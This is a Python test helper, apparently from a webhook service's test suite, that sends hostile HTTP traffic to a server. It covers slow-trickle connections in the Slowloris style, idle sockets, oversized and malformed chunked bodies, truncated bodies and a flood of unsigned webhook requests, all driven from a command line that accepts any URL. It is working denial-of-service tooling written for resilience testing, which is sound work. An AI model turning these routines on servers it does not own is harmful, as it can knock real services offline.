"""Misbehaving HTTP clients, over raw sockets: what the hostile-HTTP tests send, also as a program.

    python -m fakes.hostile_http slow http://127.0.0.1:5002 --clients 150 --seconds 10
    python -m fakes.hostile_http silent | declared-413 | chunked-413 | bad-chunks | cut-body | flood URL

Each prints what the server answered. `slow` keeps `--clients` connections sending their request a byte
every `--interval` seconds (a third never finish their headers, a third announce a body by Content-Length and
a third by chunks, and trickle it), opens a new one whenever the server closes one, and meanwhile asks
GET /health, printing how long each answer took. `silent` opens `--clients` connections that ask an HTTP/1.0
GET /health and then neither read nor hang up, and asks GET /health itself meanwhile.
Loopback or your own server only: these are the requests an attacker would send.
"""
from __future__ import annotations

import argparse
import selectors
import socket
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import httpx

WEBHOOK = "/api/v1/whatsapp/webhook"
# The slow clients: what each sends at once, then a byte at a time. Headers that never end and a small
# body announced by Content-Length wait in gunicorn_worker's poller; a chunked body is read by a thread.
_START = b"POST " + WEBHOOK.encode() + b" HTTP/1.1\r\nHost: slow\r\nContent-Type: application/json\r\n"
SLOW_STARTS = {
    "headers": (_START, b"X-Slow: " + b"z" * 10_000),
    "body": (_START + b"Content-Length: 1000\r\n\r\n", b'{"event":"message","pad":"' + b"z" * 2000),
    "chunked": (_START + b"Transfer-Encoding: chunked\r\n\r\n3e8\r\n", b'{"event":"message","pad":"' + b"z" * 2000),
}


def address(url: str) -> tuple[str, int]:
    parts = urlsplit(url)
    return parts.hostname or "127.0.0.1", parts.port or 80


def exchange(url: str, data: bytes, *, timeout: float = 15.0, half_close: bool = False) -> bytes:
    """Send `data` on a new connection and return everything the server sent until it closed or went quiet."""
    with socket.create_connection(address(url), timeout=timeout) as sock:
        sock.sendall(data)
        if half_close:
            sock.shutdown(socket.SHUT_WR)
        answer = b""
        try:
            while chunk := sock.recv(65536):
                answer += chunk
        except (TimeoutError, ConnectionResetError):
            pass
        return answer


def status_of(answer: bytes) -> int | None:
    """The status code of a raw HTTP answer, None when there was none."""
    parts = answer.split(b" ", 2)
    return int(parts[1]) if len(parts) > 2 and parts[0].startswith(b"HTTP/") and parts[1].isdigit() else None


def post_head(*, length: int | None = None, chunked: bool = False, extra: bytes = b"") -> bytes:
    """The start of a webhook POST, up to and with the blank line."""
    framing = b"Transfer-Encoding: chunked\r\n" if chunked else b"Content-Length: %d\r\n" % (length or 0)
    return (b"POST " + WEBHOOK.encode() + b" HTTP/1.1\r\nHost: hostile\r\nContent-Type: application/json\r\n"
            + extra + framing + b"\r\n")


def chunked(body: bytes, size: int = 65536) -> Iterator[bytes]:
    """`body` in pieces, so httpx sends it with Transfer-Encoding: chunked."""
    for start in range(0, len(body), size):
        yield body[start:start + size]


BAD_CHUNKS = {
    "bad chunk size": b"zz\r\n{}\r\n0\r\n\r\n",
    "missing CRLF after a chunk": b"2\r\n{}XX0\r\n\r\n",
    "bad chunk extension": b"2;=\r\n{}\r\n0\r\n\r\n",
}


@dataclass
class SlowClients:
    """`count` connections sending a request a byte every `interval` s, reconnecting when the server closes one.

    One thread and a selector drive them all; stop() ends them and returns how often the server closed one.
    `seconds` bounds the attack even if stop() is never called.
    """

    url: str
    count: int = 150
    interval: float = 1.0
    seconds: float = 60.0
    closed_by_server: int = 0
    connections: int = 0
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> SlowClients:
        self._thread = threading.Thread(target=self._run, name="slow-clients", daemon=True)
        self._thread.start()
        return self

    def stop(self) -> int:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(30)
        return self.closed_by_server

    def _open(self, selector: selectors.BaseSelector, kind: str) -> None:
        start, _ = SLOW_STARTS[kind]
        try:
            sock = socket.create_connection(address(self.url), timeout=5)
            sock.sendall(start)
        except OSError:
            return  # the backlog is full for a moment: the next turn tries again
        sock.setblocking(False)
        self.connections += 1
        selector.register(sock, selectors.EVENT_READ, {"kind": kind, "sent": 0, "next": time.monotonic()})

    def _run(self) -> None:
        selector = selectors.DefaultSelector()
        ends_at = time.monotonic() + self.seconds
        kinds = [list(SLOW_STARTS)[n % len(SLOW_STARTS)] for n in range(self.count)]
        for kind in kinds:
            self._open(selector, kind)
        while not self._stop.is_set() and time.monotonic() < ends_at:
            for key, _ in selector.select(timeout=0.1):  # the server answered or closed: connect again
                self._close(selector, key.fileobj, key.data["kind"], by_server=True)
            now = time.monotonic()
            for key in list(selector.get_map().values()):
                state = key.data
                if state["next"] > now:
                    continue
                trickle = SLOW_STARTS[state["kind"]][1]
                try:
                    key.fileobj.send(bytes([trickle[state["sent"] % len(trickle)]]))
                    state["sent"] += 1
                    state["next"] = now + self.interval
                except OSError:
                    self._close(selector, key.fileobj, state["kind"], by_server=True)
            for _ in range(self.count - len(selector.get_map())):  # reconnect what was closed
                self._open(selector, kinds[self.connections % len(kinds)])
        for key in list(selector.get_map().values()):
            self._close(selector, key.fileobj, key.data["kind"], by_server=False)
        selector.close()

    def _close(self, selector: selectors.BaseSelector, sock: socket.socket, kind: str, *, by_server: bool) -> None:
        selector.unregister(sock)
        sock.close()
        self.closed_by_server += by_server


def silent_after_answer(url: str, count: int) -> list[socket.socket]:
    """`count` connections that each ask one HTTP/1.0 GET /health (answered, then closed by the server) and then
    neither read nor close: a server that waits for them to hang up is stalled. Close them when done."""
    sockets = []
    for _ in range(count):
        sock = socket.create_connection(address(url), timeout=5)
        sock.sendall(b"GET /health HTTP/1.0\r\n\r\n")
        sockets.append(sock)
    return sockets


def probe(url: str, path: str = "/health", timeout: float = 20.0) -> tuple[int, float]:
    started = time.monotonic()
    response = httpx.get(url + path, timeout=timeout)
    return response.status_code, time.monotonic() - started


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m fakes.hostile_http", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=["slow", "silent", "declared-413", "chunked-413", "bad-chunks", "cut-body",
                                           "flood"])
    parser.add_argument("url", help="the server, e.g. http://127.0.0.1:5002")
    parser.add_argument("--clients", type=int, default=150)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--interval", type=float, default=1.0)
    parser.add_argument("--requests", type=int, default=3000)
    args = parser.parse_args(argv)
    url = args.url.rstrip("/")
    if args.attack == "slow":
        attack = SlowClients(url, count=args.clients, interval=args.interval, seconds=args.seconds + 60).start()
        ends_at = time.monotonic() + args.seconds
        try:
            while time.monotonic() < ends_at:
                status, took = probe(url)
                print(f"GET /health during the attack: {status} in {took:.2f} s", flush=True)
                time.sleep(0.5)
        except httpx.HTTPError as exc:
            print(f"GET /health during the attack: no answer ({type(exc).__name__})")
        finally:
            print(f"the server closed {attack.stop()} slow connections ({attack.connections} opened)")
    elif args.attack == "silent":
        sockets = silent_after_answer(url, args.clients)
        try:
            for _ in range(5):
                status, took = probe(url)
                print(f"GET /health with {args.clients} silent clients: {status} in {took:.2f} s", flush=True)
        except httpx.HTTPError as exc:
            print(f"GET /health with {args.clients} silent clients: no answer ({type(exc).__name__})")
        finally:
            for sock in sockets:
                sock.close()
    elif args.attack == "declared-413":
        answer = exchange(url, post_head(length=4_000_000) + b"{", timeout=15)
        print(f"Content-Length: 4000000, one byte sent: {answer[:300]!r}")
    elif args.attack == "chunked-413":
        pad = b"x" * (4 * 1024 * 1024)
        response = httpx.post(url + WEBHOOK, content=chunked(b'{"pad":"' + pad + b'"}'), timeout=30,
                              headers={"Content-Type": "application/json"})
        print(f"4 MiB chunked body: {response.status_code} {response.text[:200]}")
    elif args.attack == "bad-chunks":
        for name, body in BAD_CHUNKS.items():
            print(f"{name}: {exchange(url, post_head(chunked=True) + body)[:400]!r}")
    elif args.attack == "cut-body":
        answer = exchange(url, post_head(length=1000) + b'{"event":"message"', half_close=True)
        print(f"Content-Length: 1000, 18 bytes sent, then the client left: {answer[:300]!r}")
    else:
        with httpx.Client(base_url=url, timeout=30) as http:
            statuses = [http.post(WEBHOOK, content=b"{}", headers={"Content-Type": "application/json"}).status_code
                        for _ in range(args.requests)]
        print(f"{args.requests} unsigned requests: statuses {sorted(set(statuses))}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
